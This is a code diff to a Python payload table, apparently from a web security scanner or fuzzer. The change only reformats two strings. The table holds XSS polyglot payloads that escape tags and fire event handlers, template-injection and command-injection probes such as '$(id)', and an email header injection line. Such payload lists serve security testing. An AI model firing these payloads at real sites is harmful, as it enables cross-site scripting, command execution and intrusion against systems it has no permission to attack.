@@ -280,13 +280,17 @@ PLAIN: dict[str, list[str]] = {
         "$(id)`id`|id;@N@",
     ],
     "polyglot": [
-        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@JS@ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
-        "</scRipt/--!>\\x3csVg/<sVg/oNloAd=@JS@//>\\x3e",
+        (
+            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@JS@ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
+            "</scRipt/--!>\\x3csVg/<sVg/oNloAd=@JS@//>\\x3e"
+        ),
         "'\">><marquee><img src=x onerror=@JS@></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=@JS@>",
         "\"'--></style></script></title></textarea><svg onload=@JS@>{{@FACTORS@}}${@FACTORS@}",
         "{{@FACTORS@}}<img src=x onerror=@JS@>'\"`=1+1\r\nBcc: a@@HOST@",
-        "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script>"
-        '<html \\" onmouseover=/*&lt;svg/*/onload=@JS@//>',
+        (
+            "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script>"
+            '<html \\" onmouseover=/*&lt;svg/*/onload=@JS@//>'
+        ),
     ],
     "long": [
         "@N@" + "W" * 4000,
